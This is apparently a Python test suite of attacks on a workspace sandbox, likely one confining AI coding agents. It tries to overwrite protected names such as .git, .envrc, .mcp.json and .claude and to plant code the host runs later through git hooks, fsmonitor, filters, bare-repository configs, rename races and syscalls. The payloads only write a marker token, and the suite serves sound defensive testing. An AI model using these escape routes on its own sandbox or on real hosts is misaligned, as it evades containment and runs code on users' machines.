"""Attacks on names that the host executes or obeys later. Success is a protected name that is no more as it was, or a
program that ran when the host used git afterwards."""

import os, socket, time
from attack import *

NAMES = [".git", ".envrc", ".mcp.json", ".bailiwick", ".claude", ".codex", ".cursor", ".gemini", ".vscode", ".idea",
         ".zed", ".devcontainer", ".exrc", ".nvim.lua", ".vimrc"]
EVIL = "#!/bin/sh\necho {0} >> {1}/executed\n"


def every(way):
    each([lambda n=n: way(n) for n in NAMES])


def evil(path):
    put(path, EVIL.format(TOKEN, OUT))
    os.chmod(path, 0o755)


@attack("protected")
def absent_name_created():
    """CVE-2026-25725, escape list 3: what does not exist cannot be mounted over."""
    every(put)


@attack("protected")
def absent_folder_created():
    """Escape list 3, with mkdir -p."""
    every(lambda n: os.makedirs(n + "/deep", exist_ok=True))


@attack("protected")
def absent_name_linked():
    """Escape list 3, by symbolic and hard links."""
    put("source")
    every(lambda n: os.symlink("source", n))
    every(lambda n: os.link("source", n))


@attack("protected")
def renamed_onto_name():
    """Own: a folder renamed upon an empty folder replaces it."""
    os.makedirs("made/deep")
    put("source")
    every(lambda n: os.rename("made", n))
    every(lambda n: os.rename("source", n))


@attack("protected")
def exchanged_with_name():
    """Own: RENAME_EXCHANGE swaps two names at once."""
    os.makedirs("made")
    os.makedirs(".envrc") if not os.path.lexists(".envrc") else None
    every(lambda n: call(316, -100, text("made"), -100, text(n), 2))


@attack("protected")
def other_spellings():
    """Own: trailing slashes, dots, links to the folder, descriptors, other letters' paths to the same name."""
    here = os.open(".", os.O_RDONLY)
    os.makedirs("x", exist_ok=True)
    os.symlink(".", "loop")
    spellings = ("./{}", "x/../{}", "loop/{}", "/proc/self/cwd/{}", f"/proc/self/fd/{here}/{{}}", ".//{}",
                 WORK + "/{}", "/proc/self/root" + WORK + "/{}", f"/proc/thread-self/cwd/{{}}")
    each([lambda s=s, n=n: put(s.format(n)) for s in spellings for n in NAMES])
    each([lambda s=s, n=n: os.mkdir(s.format(n) + "/") for s in spellings for n in NAMES])


@attack("protected")
def temporary_file_linked():
    """Own: O_TMPFILE and linkat make a name without open."""
    fd = os.open(".", os.O_TMPFILE | os.O_RDWR, 0o755)
    every(lambda n: call(265, -100, text(f"/proc/self/fd/{fd}"), -100, text(n), 0x400))


@attack("protected")
def sockets_and_fifos():
    """Own: names made by bind and mkfifo."""
    every(os.mkfifo)
    every(lambda n: socket.socket(socket.AF_UNIX).bind(n))


@attack("protected")
def reserved_folder_removed():
    """Own: a name is occupied by an empty folder; take it away, quickly and often."""
    end = time.monotonic() + 0.4
    while time.monotonic() < end:
        for name in (".envrc", ".mcp.json"):
            for step in (lambda: os.rmdir(name), lambda: os.rename(name, "away"), lambda: put(name)):
                try:
                    step()
                except OSError:
                    pass


@attack("protected")
def written_into_reserved():
    """Own: something in the reserved folders, so that they stay for good."""
    every(lambda n: os.path.isdir(n) or os.mkdir(n))
    every(lambda n: put(n + "/settings.json"))


@attack("protected", stage="protected-deep")
def parent_of_protected_moved():
    """Own: a protected name deep below, reached by moving what is above it."""
    each([lambda: os.rename("ci", "away"), lambda: os.makedirs("ci/deploy"), lambda: put("ci/deploy/run"),
          lambda: os.rename("ci/deploy", "ci/away"), lambda: put("ci/deploy")])


@attack("protected", stage="git")
def git_folder_moved():
    """Escape list 4: .git renamed away and replaced."""
    each([lambda: os.rename(".git", "git.away"), lambda: os.mkdir(".git"), lambda: put(".git/config")])


@attack("protected", stage="git")
def git_folder_replaced_by_file():
    """Escape list 4: `gitdir:` leads elsewhere."""
    each([lambda: sh("rm -rf .git"), lambda: put(".git", "gitdir: " + WORK + "/fake\n")])


@attack("protected", stage="git")
def git_config_by_every_way():
    """Escape list 5: core.fsmonitor, core.pager and the like run programs."""
    put("mine")
    each([lambda: put(".git/config"), lambda: os.unlink(".git/config"), lambda: os.rename("mine", ".git/config"),
          lambda: os.link(".git/config", "hard") or put("hard"), lambda: os.truncate(".git/config", 0),
          lambda: os.rename(".git/config", ".git/c"), lambda: os.chmod(".git/config", 0o777),
          lambda: sh("git config core.fsmonitor ./evil"), lambda: sh("git -C .git config alias.status '!evil'"),
          lambda: put(".git/config.worktree"), lambda: os.setxattr(".git/config", "user.a", b"1")])


@attack("protected", stage="git")
def git_hooks_by_every_way():
    """Escape list 5: a hook runs at the host's next commit."""
    each([lambda: evil(".git/hooks/pre-commit"), lambda: os.rename(".git/hooks", ".git/h"),
          lambda: os.chmod(".git/hooks/post-checkout", 0o755), lambda: sh("ln -sf $PWD/evil .git/hooks/pre-push"),
          lambda: sh("rm -rf .git/hooks; mkdir .git/hooks; touch .git/hooks/pre-commit")])


@attack("protected", stage="git")
def git_common_folder():
    """Escape list 4: commondir sends git to another folder for its configuration and hooks."""
    os.makedirs("common")
    each([lambda: put(".git/commondir", WORK + "/common\n"), lambda: os.unlink(".git/commondir"),
          lambda: put("mine") or os.rename("mine", ".git/commondir"),
          lambda: os.makedirs(".git/worktrees/w"), lambda: os.makedirs(".git/modules/m/hooks")])


@attack("protected", stage="git-file")
def git_file_rewritten():
    """Escape list 4: a work tree's .git is a file; so is a submodule's."""
    each([lambda: put(".git", "gitdir: ./fake\n"), lambda: os.unlink(".git"),
          lambda: put("mine") or os.rename("mine", ".git")])


def bare(folder, work):
    sh(f"mkdir -p {folder}/objects {folder}/refs && echo ref: refs/heads/main > {folder}/HEAD")
    evil("evil.sh")
    put(f"{folder}/config", f"[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = {work}\n\tfsmonitor = {WORK}/evil.sh\n")


@attack("executed")
def workspace_as_bare_repository():
    """CVE-2022-24765's kin, closed by srt: without .git, a folder with HEAD, objects, refs and config is a repository."""
    bare(".", WORK)


@attack("executed", stage="git")
def broken_git_beside_bare_repository():
    """Own: .git stays writable; a broken HEAD makes git pass it by and take the workspace itself for a repository."""
    each([lambda: os.unlink(".git/HEAD")])
    bare(".", WORK)


@attack("executed", stage="git")
def nested_repository_in_index():
    """Own: `git status` enters every nested repository that the index names, and obeys its configuration."""
    sh("git init -q sub && git -C sub -c user.name=a -c user.email=a@b commit -q --allow-empty -m x && git add sub")
    evil("evil.sh")
    sh(f"git -C sub config core.fsmonitor {WORK}/evil.sh")
    put("sub/new")


@attack("executed", stage="git-hooks-path")
def hooks_folder_in_workspace():
    """Own: the host's own core.hooksPath (husky) leads into the workspace."""
    os.makedirs(".husky", exist_ok=True)
    evil(".husky/pre-commit")
    evil(".husky/post-index-change")


@attack("executed", stage="git-include")
def included_configuration_in_workspace():
    """Own: the host's own include.path leads into the workspace."""
    evil("evil.sh")
    put(".gitconfig", f"[core]\n\tfsmonitor = {WORK}/evil.sh\n")


@attack("executed", stage="git")
def attributes_filter():
    """Own: .gitattributes names a filter; only a configuration can say what it runs."""
    evil("evil.sh")
    put(".gitattributes", "* filter=evil diff=evil\n")
    put(".git/info/attributes", "* filter=evil\n")
    sh(f"git config filter.evil.clean {WORK}/evil.sh")
    put("file", "changed " + TOKEN)


@attack("protected", stage="two-runs-link")
def parent_of_protected_is_a_link():
    """Own: the folder above a protected name was replaced by a link in an earlier run; the reserve must not follow it."""
    put("ci/deploy")


@attack("planted-outside", stage="deep-link")
def reserve_led_outside():
    """Own: the same, seen from the other side: the gate itself makes the absent name, wherever the link leads."""
    os.mkdir("ci/deploy")


@attack("planted-outside", stage="state-inside")
def list_of_reserved_names_rewritten():
    """Own: the gate's state is in the workspace; its list of names to give back says what the gate removes next time."""
    each([lambda: os.rmdir(OUT + "/empty")])
    for folder, _, files in os.walk("."):
        for name in files:
            if name.startswith("reserved-") and "." not in name:
                each([lambda: open(os.path.join(folder, name), "ab").write(b"../out/empty\0")])


@attack("protected", stage="state-inside")
def stash_of_reserved_folders_filled():
    """Own: the gate's state is in the workspace; folders it will put in place as empty ones are not empty."""
    for folder, folders, _ in os.walk("."):
        if "stash" in folders:
            each([lambda n=n: put(f"{folder}/stash/{n}/settings.json") for n in os.listdir(folder + "/stash")])
    each([lambda: os.makedirs("state/stash/.envrc/deep"), lambda: put(".envrc")])


@attack("protected", stage="git")
def two_at_once():
    """Own: two of one sandbox's processes race mkdir, rename and rmdir at one name while a third opens it."""
    names, end = (".envrc", ".git/commondir", ".vscode"), time.monotonic() + 0.4
    for _ in range(2):
        if os.fork() == 0:
            while time.monotonic() < end:
                for name in names:
                    for step in (lambda: os.rename(name, "x"), lambda: os.rename("x", name), lambda: os.mkdir("x")):
                        try:
                            step()
                        except OSError:
                            pass
            os._exit(0)
    while time.monotonic() < end:
        each_quietly([lambda n=n: put(n + ("/x" if os.path.isdir(n) else "")) for n in names])


def each_quietly(steps):
    for step in steps:
        try:
            step()
        except OSError:
            pass


@attack("protected", stage="git", mode="ReadOnly")
def read_only_workspace_planted():
    """Own: protected names where nothing at all may be written."""
    every(put)
    each([lambda: put(".git/config"), lambda: evil(".git/hooks/pre-commit")])


@attack("protected", stage="git", mode="Overlay")
def overlay_workspace_planted():
    """Own: protected names through an overlay; its changes are somebody else's to apply."""
    every(put)
    each([lambda: put(".git/config"), lambda: evil(".git/hooks/pre-commit"), lambda: os.rename(".git", "x")])
